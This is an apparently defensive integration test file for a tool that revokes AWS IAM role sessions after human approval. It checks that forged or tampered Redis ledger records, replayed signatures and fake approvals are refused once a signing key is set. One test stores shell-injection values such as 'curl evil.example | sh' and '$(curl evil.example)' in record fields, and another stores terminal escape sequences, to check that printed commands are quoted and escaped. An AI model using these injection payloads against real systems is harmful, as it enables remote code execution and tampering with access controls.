import { afterAll, beforeAll, beforeEach, describe, expect, inject, it, vi } from 'vitest';
import { createSeal } from '../../src/baseline/redis/ledger-seal.ts';
import type { Intent } from '../../src/core/action/intent.ts';
import type { ActionRecord, ActionState } from '../../src/core/action/ledger.ts';
import type { Target } from '../../src/core/event/target.ts';
import { createPrometheus } from '../../src/run/consume/prometheus.ts';
import { armed, configFile, keyOf, QUEUE, taken } from '../support/armed.ts';
import { sessionIntent } from '../support/iam-lab.ts';
import { heardLog, sqsEvent, startHandler } from '../support/lambda-lab.ts';
import { type LiveLab, liveLab } from '../support/live-lab.ts';
import { redisCli } from '../support/redis-cluster.ts';
import { runCommand } from '../support/run-command.ts';

const KEY = 'of-the-tests-and-of-nobody-else-1';
const SIGNED = { signingKeys: [`\${env:RW_SIGNING}`] };
const ago = (ms: number) => Date.now() - ms;

let lab: LiveLab;
beforeAll(async () => {
  lab = await liveLab(inject('aws'));
  vi.stubEnv('RW_SIGNING', KEY);
});
beforeEach(() => lab.forget());
afterAll(() => lab.close());

/** A worker that asks a person, and the command line with its configuration. */
async function place(revocation: object) {
  const { meter, read } = createPrometheus();
  const made = await lab.live({ revocation: { mode: 'confirm', ...revocation } }, meter);
  const config = configFile(made.config);
  const run = (line: string, env: Readonly<Record<string, string>> = { RW_SIGNING: KEY }) =>
    runCommand([...line.split(' '), '--config', config], env, new AbortController().signal);
  const deliver = async (body: object) => {
    const [outcome] = await made.app.analyzer.analyze([{ id: 'm', body, source: QUEUE }]);
    return outcome?.findings[0]?.actions[0];
  };
  return { ...made, run, deliver, read };
}

/** The ledger of whoever can write to Redis and has no key. */
const attacker = () => lab.link.ledger;
const raw = async (actionId: string) => (await redisCli(lab.redis.port, ['GET', `rw:x:${actionId}`])).trim();
const write = (actionId: string, text: string) => redisCli(lab.redis.port, ['SET', `rw:x:${actionId}`, text]);

/** Makes a record up, as if it were two minutes old. */
async function forge(intent: Intent, state: ActionState, more: Partial<ActionRecord> = {}) {
  const { actionId } = intent;
  const by = 'mallory';
  const made = await attacker().record({ actionId, intent, state, finding: null, by, detail: '' });
  await write(actionId, JSON.stringify({ ...made, changed: ago(120_000), ...more }));
}

/** A session of a role that nobody has anything against. */
async function victim(name: string): Promise<{ readonly role: Target; readonly intent: Intent }> {
  const role = await lab.iam.role(name, { Tags: [] });
  return { role, intent: sessionIntent(role, 'payroll', Math.floor(Date.now() / 1_000) * 1_000) };
}

describe.each([
  { signed: 'without a key', revocation: {}, written: 1 },
  { signed: 'with a key', revocation: SIGNED, written: 0 },
])('somebody who can write to Redis, $signed', ({ revocation, written }) => {
  const named = (name: string) => `${name}-${written}`;

  it('makes up an order that nobody gave', async () => {
    const { role, intent } = await victim(named('forged-order'));
    const { settle } = await place(revocation);
    await forge(intent, 'ready');
    await settle();
    expect(await lab.iam.names(role)).toHaveLength(written);
  });

  it('makes up a deny that is said to have been removed', async () => {
    const { role, intent } = await victim(named('forged-deny'));
    const { settle } = await place(revocation);
    await forge(intent, 'applied', { written: ago(120_000) });
    await settle();
    expect(await lab.iam.names(role)).toHaveLength(written);
  });

  it('changes the role of what a person is about to approve', async () => {
    const suspect = await lab.iam.role(named('decoy-suspect'));
    const { role } = await victim(named('changed-role'));
    const { deliver, run } = await place(revocation);
    const { actionId, outcome } = (await deliver(taken(suspect))) ?? {};
    expect(outcome).toBe('pending');
    const id = actionId ?? '';
    const text = await raw(id);
    await write(
      id,
      text.replaceAll(suspect.name, role.name).replaceAll(suspect.uniqueId ?? '', role.uniqueId ?? ''),
    );
    const { status } = await run(`approve ${id} --by alice`);
    expect(status).toBe(written === 1 ? 0 : 'ERR_USAGE');
    expect(await lab.iam.names(role)).toHaveLength(written);
    expect(await lab.iam.names(suspect)).toEqual([]);
  });

  it('words a command for people to paste, or hides what waits', async () => {
    const { deliver, run } = await place(revocation);
    const { actionId = '' } = (await deliver(taken(await lab.iam.role(named('decoy-to-be-hidden'))))) ?? {};
    const { intent } = await victim(named('pasted'));
    await redisCli(lab.redis.port, [
      'HSET',
      'rw:caps',
      "b:all'; curl evil.example | sh #",
      `${Date.now()}|x`,
    ]);
    const made = {
      state: 'pending',
      by: 'x',
      detail: '',
      finding: null,
      since: Date.now(),
      changed: Date.now(),
    };
    const odd = '0; curl evil.example | sh';
    const forged = {
      [odd]: { ...made, intent: { ...intent, actionId: odd } },
      '00000000000000f1': { ...made, intent: { ...intent, actionId: odd } },
      '00000000000000f2': { ...made, intent: { ...intent, actionId: '00000000000000f2' }, since: 9e15 },
      '00000000000000f3': { ...made, intent: { ...intent, target: { name: '$(curl evil.example)' } } },
      '00000000000000f4': { ...made, intent: { ...intent, actionId: '00000000000000f4' }, finding: {} },
      '00000000000000f5': 'garbage',
    };
    for (const [id, record] of Object.entries(forged)) {
      const text = typeof record === 'string' ? record : JSON.stringify({ actionId: id, ...record });
      await write(id, text);
      await redisCli(lab.redis.port, ['ZADD', 'rw:actions', String(Date.now()), id]);
    }
    const shown = await run('pending');
    expect([shown.status, shown.stdout]).toEqual([0, expect.stringContaining(`approve ${actionId}\n`)]);
    const checked = await run('doctor');
    const commands = `${shown.stdout}${checked.stdout}`.match(/rolewarden (?:approve|reject|undo) .*evil.*/g);
    const quoted = "rolewarden approve --breaker 'all'\\''; curl evil.example | sh #'";
    expect(commands?.map((line) => line.slice(0, quoted.length))).toEqual([quoted, quoted]);
  });

  it('marks a deny as undone, for the sweep to remove', async () => {
    const suspect = await lab.iam.role(named('decoy-not-undone'));
    const { deliver, run } = await place(revocation);
    const id = (await deliver(taken(suspect)))?.actionId ?? '';
    expect((await run(`approve ${id} --by alice`)).status).toBe(0);
    await write(id, JSON.stringify({ ...JSON.parse(await raw(id)), state: 'undone', by: 'alice' }));
    const swept = await run('sweep');
    expect(await lab.iam.names(suspect)).toHaveLength(1 - written);
    const about = swept.stderr.split('\n').filter((line) => line.includes(suspect.name));
    expect(about).toEqual([
      expect.stringMatching(written === 1 ? /^removed \(resurrected\)/ : /^unrecorded/),
    ]);
  });

  it('approves in the name of a person', async () => {
    const suspect = await lab.iam.role(named('decoy-approved'));
    const { deliver, settle } = await place(revocation);
    const id = (await deliver(taken(suspect)))?.actionId ?? '';
    const record = JSON.parse(await raw(id));
    await write(id, JSON.stringify({ ...record, state: 'ready', by: 'alice', changed: ago(120_000) }));
    await settle();
    expect(await lab.iam.names(suspect)).toHaveLength(written);
  });
});

describe('with a key', () => {
  it('an approval counts for its action alone, and a signature for its record', async () => {
    const { role, intent } = await victim('copied-approval');
    const { deliver, run, settle } = await place(SIGNED);
    const id = (await deliver(taken(await lab.iam.role('decoy-copied'))))?.actionId ?? '';
    expect((await run(`approve ${id} --by alice`)).status).toBe(0);
    const approved = { ...JSON.parse(await raw(id)), state: 'ready', changed: ago(120_000) };
    const old = createSeal([KEY]).close({ ...approved, signature: undefined });
    await forge(intent, 'pending');
    await write(intent.actionId, old);
    await settle();
    const { signature } = JSON.parse(old);
    await write(
      intent.actionId,
      JSON.stringify({ ...approved, actionId: intent.actionId, intent, signature }),
    );
    await settle();
    expect(await lab.iam.names(role)).toEqual([]);
    expect((await run(`approve ${intent.actionId}`)).status).toBe('ERR_USAGE');
    expect(await lab.iam.names(role)).toEqual([]);
  });

  it('what was approved and put back is not asked for by itself, and approving twice writes one policy', async () => {
    const suspect = await lab.iam.role('decoy-twice-approved');
    const { deliver, run, settle } = await place(SIGNED);
    const id = (await deliver(taken(suspect)))?.actionId ?? '';
    const waited = await raw(id);
    expect((await run(`approve ${id} --by alice`)).status).toBe(0);
    expect((await run(`undo ${id} --by alice`)).status).toBe(0);
    await write(id, waited);
    await settle();
    expect(await lab.iam.names(suspect)).toEqual([]);
    for (const line of [`approve ${id} --by bob`, `approve ${id} --by bob`]) {
      expect((await run(line)).status).toBe(0);
    }
    expect(await lab.iam.names(suspect)).toHaveLength(1);
  });

  it('an order from before an undo is not carried out again, whoever puts it back', async () => {
    const suspect = await lab.iam.role('decoy-put-back');
    const { deliver, run, settle } = await place(SIGNED);
    const id = (await deliver(taken(suspect)))?.actionId ?? '';
    expect((await run(`approve ${id} --by alice`)).status).toBe(0);
    const { signature: _, ...approved } = JSON.parse(await raw(id));
    expect((await run(`undo ${id} --by bob`)).status).toBe(0);
    for (const detail of ['approved by alice', 'the policy was removed by somebody; written again']) {
      const ordered = { ...approved, state: 'ready', detail, changed: ago(120_000), written: undefined };
      await write(id, createSeal([KEY]).close(ordered));
      await settle();
      expect(await lab.iam.names(suspect)).toEqual([]);
      expect(createSeal([KEY]).open(id, await raw(id))).toMatchObject({
        state: 'undone',
        by: expect.stringMatching(/^bob/),
      });
    }
  });

  it('the honest way works: asked, approved, verified, undone, ordered anew, rejected', async () => {
    const suspect = await lab.iam.role('decoy-honest');
    const { deliver, read, run, settle } = await place(SIGNED);
    const record = taken(suspect);
    const id = (await deliver(record))?.actionId ?? '';
    expect((await run('pending')).stdout).toContain(`pending ${id}`);
    expect((await run(`approve ${id} --by alice`)).status).toBe(0);
    await settle();
    expect((await run('pending --in-force')).stdout).toContain(`in force ${id}`);
    expect((await run(`undo ${id} --by alice`)).status).toBe(0);
    expect(await lab.iam.names(suspect)).toEqual([]);
    expect((await run(`revoke ${keyOf(record)} --by alice`)).status).toBe(0);
    expect(await lab.iam.names(suspect)).toHaveLength(1);
    const other = (await deliver(taken(await lab.iam.role('decoy-honest-2'))))?.actionId ?? '';
    expect((await run(`reject ${other} --by bob`)).status).toBe(0);
    await settle();
    expect(read('actions_unsigned')).toBe(0);
    expect((await run('pending')).stderr).toMatch(/^0 waiting, 0 failed, 0 breakers open, 1 in force\n$/);
  });

  it('a function acts, and tells of what nobody signed, once', async () => {
    const log = heardLog();
    const write = vi.spyOn(process.stdout, 'write').mockReturnValue(true);
    const { invoke, live } = await startHandler({ ...armed(lab.redis.port, { revocation: SIGNED }) }, log);
    const role = await lab.iam.role('decoy-signed-function');
    expect(await invoke(sqsEvent([JSON.stringify(taken(role))]))).toEqual({ batchItemFailures: [] });
    write.mockRestore();
    expect(await lab.iam.names(role)).toHaveLength(1);
    const { intent, role: other } = await victim('forged-for-a-function');
    await forge(intent, 'ready');
    await live.settle();
    await live.settle();
    await live.close();
    const told = log.lines.filter(({ message }) => message.includes('no valid signature:'));
    expect(told.map(({ fields }) => fields)).toEqual([{ actionId: intent.actionId }]);
    expect(await lab.iam.names(other)).toEqual([]);
  });

  it('without a key, a record that cannot be read is counted and shown, and cannot be approved', async () => {
    const { read, run, settle } = await place({});
    const id = 'c'.repeat(16);
    await redisCli(lab.redis.port, ['SET', `rw:x:${id}`, '{"state":"pending"}']);
    await redisCli(lab.redis.port, ['ZADD', 'rw:actions', String(Date.now()), id]);
    await settle();
    expect(read('actions_unsigned')).toBe(1);
    const { stderr, stdout } = await run('pending');
    expect(stdout).toContain(`unsigned ${id}\n  it is no record that this version can read`);
    expect(stderr).toContain(', 1 that cannot be read\n');
    const refused = await run(`approve ${id} --by alice`);
    expect([refused.status, refused.stderr]).toEqual(['ERR_USAGE', expect.stringContaining('can read')]);
    expect((await run('doctor')).stdout).toMatch(/unsigned +1 record of revocations cannot be read/);
    await redisCli(lab.redis.port, ['DEL', `rw:x:${id}`]);
    await redisCli(lab.redis.port, ['ZREM', 'rw:actions', id]);
  });

  it('what waited before it was set is shown and refused, and can be ordered anew', async () => {
    const suspect = await lab.iam.role('decoy-before-the-key');
    const record = taken(suspect);
    const id = (await (await place({})).deliver(record))?.actionId ?? '';
    const { read, run, settle } = await place(SIGNED);
    await settle();
    expect(read('actions_unsigned')).toBe(1);
    const list = await run('pending');
    expect(list.stdout).toContain(
      `unsigned ${id}\n  its signature is missing, or not by a key that is set here: nothing is done for it`,
    );
    expect(list.stdout).not.toContain(`pending ${id}`);
    expect(list.stderr).toContain('1 without a valid signature');
    for (const line of [`approve ${id}`, `reject ${id}`]) {
      const { status, stderr } = await run(line);
      expect([status, stderr]).toEqual([
        'ERR_USAGE',
        expect.stringContaining('order it anew (rolewarden revoke'),
      ]);
    }
    expect(await lab.iam.names(suspect)).toEqual([]);
    expect((await run(`revoke ${keyOf(record)} --by alice`)).status).toBe(0);
    expect(await lab.iam.names(suspect)).toHaveLength(1);
    await settle();
    expect(read('actions_unsigned')).toBe(0);
  });

  it('a flood of records that nobody signed hides nothing: a few are shown, with what they claim', async () => {
    const { deliver, run } = await place(SIGNED);
    const id = (await deliver(taken(await lab.iam.role('decoy-in-the-flood'))))?.actionId ?? '';
    const junk = Array.from({ length: 300 }, (_, n) => n.toString(16).padStart(16, '0'));
    const [first = '', second = '', third = ''] = junk.toReversed();
    const { role, intent } = await victim('claimed-role');
    await redisCli(lab.redis.port, [
      'ZADD',
      'rw:actions',
      ...junk.flatMap((one, at) => [String(Date.now() - 60_000 + at), one]),
    ]);
    await redisCli(lab.redis.port, ['MSET', ...junk.flatMap((one) => [`rw:x:${one}`, 'junk'])]);
    const forged = { intent, state: 'pending', by: 'al\u001b[2Jice\nx', since: Date.UTC(2026, 0, 2) };
    await write(first, JSON.stringify(forged));
    await write(second, JSON.stringify({ ...forged, intent: { target: [role] }, since: 9e15, by: { a: 1 } }));
    const { stdout, stderr } = await run('pending');
    expect(stdout.indexOf(`pending ${id}`)).toBe(0);
    expect(stdout.match(/^unsigned /gm)).toHaveLength(5);
    expect(stdout).toContain('and 295 more without a valid signature: --format json lists them\n');
    expect(stdout.match(/Compare keys first/g)).toHaveLength(1);
    const claimed = `in account ${role.accountId}, pending, by al\\u{1b}[2Jice\\u{a}x, at 2026-01-02T00:00:00Z (`;
    expect(stdout).toMatch(new RegExp(`^unsigned ${first}\n.*: nothing is done for it\n`, 'm'));
    expect(stdout).toContain(`anybody may have made that up: ${role.arn}, ${claimed}`);
    expect(stdout).toContain('anybody may have made that up: pending\n');
    expect(stdout).toContain(`unsigned ${third}\n`);
    expect(stdout).toContain('made that up: nothing that can be read\n');
    // what anybody may have made up is last, and hides nothing
    const at = stdout.indexOf('kill switch: not pulled');
    expect([at > 0, at < stdout.indexOf('unsigned ')]).toEqual([true, true]);
    expect(stderr).toContain(
      '1 waiting, 0 failed, 0 breakers open, 0 in force, 300 without a valid signature',
    );
    const lines = (await run('pending --format json')).stdout.trim().split('\n');
    const unsigned = lines
      .map((line) => JSON.parse(line))
      .filter(({ schema }) => schema.includes('unsigned'));
    expect(unsigned).toHaveLength(300);
    expect(unsigned[0]).toEqual({
      schema: 'rolewarden.unsigned/1',
      actionId: first,
      claimed: {
        target: role.arn,
        accountId: role.accountId,
        state: 'pending',
        by: forged.by,
        at: '2026-01-02T00:00:00.000Z',
      },
    });
    const nothing = { target: null, accountId: null, by: null, at: null };
    expect(unsigned[1]).toMatchObject({ claimed: { ...nothing, state: 'pending' } });
    expect(unsigned[2]).toMatchObject({ claimed: { ...nothing, state: null } });
  });

  it('somebody with another key is warned: his undo and his order are not known to the workers', async () => {
    const suspect = await lab.iam.role('decoy-other-key');
    const { deliver, run } = await place(SIGNED);
    const record = taken(suspect);
    const id = (await deliver(record))?.actionId ?? '';
    expect((await run(`approve ${id} --by alice`)).status).toBe(0);
    const other = { RW_SIGNING: 'another-key-that-no-worker-has-01' };
    const undone = await run(`undo ${id} --by alice`, other);
    expect(undone.stderr).toContain(`no key that is set here signed 1 record in the store (${id}).`);
    expect(undone.stderr).toContain('They have no tombstone');
    expect((await run(`undo ${id} --by alice`)).stderr).not.toContain('WARNING');
    const ordered = await run(`revoke ${keyOf(record)} --by alice`, other);
    expect(ordered.stderr).toContain('Workers with another key do not count this revocation');
    expect((await run(`revoke ${keyOf(record)} --by alice`, other)).stderr).not.toContain('WARNING');
    expect(
      (await run(`undo ${id} --by alice`, { RW_SIGNING: ` ${other.RW_SIGNING}\n` })).stderr,
    ).not.toContain('WARNING');
  });

  it('the kill switch needs no key, and an undo without one says to set it', async () => {
    const suspect = await lab.iam.role('decoy-no-key');
    const { deliver, run } = await place(SIGNED);
    const id = (await deliver(taken(suspect)))?.actionId ?? '';
    for (const env of [{}, { RW_SIGNING: 'short' }]) {
      expect((await run('stop --by alice', env)).status).toBe(0);
      expect((await run('pending')).stdout).toContain('alice');
      expect((await run('resume --by alice', env)).stderr).toContain('it was pulled by alice');
    }
    const undone = await run(`undo ${id} --target ${suspect.arn} --by alice`, {});
    expect(undone.stderr).toContain('no tombstone was written');
    expect(undone.stderr).toContain('RW_SIGNING, which is not set: set RW_SIGNING)');
  });

  it('a command that lacks the key, or has one that can be guessed, says so, and shows no value', async () => {
    const { run } = await place(SIGNED);
    const none = await run('pending', {});
    expect([none.status, none.stderr]).toEqual([
      'ERR_CONFIG_INVALID',
      expect.stringContaining('revocation.signingKeys.0 names the environment variable RW_SIGNING'),
    ]);
    const short = await run('pending', { RW_SIGNING: 'Hunter2' });
    expect([short.status, short.stderr]).toEqual([
      'ERR_CONFIG_INVALID',
      expect.stringContaining('a key of 7 characters'),
    ]);
    expect(short.stderr).not.toContain('Hunter2');
  });
});
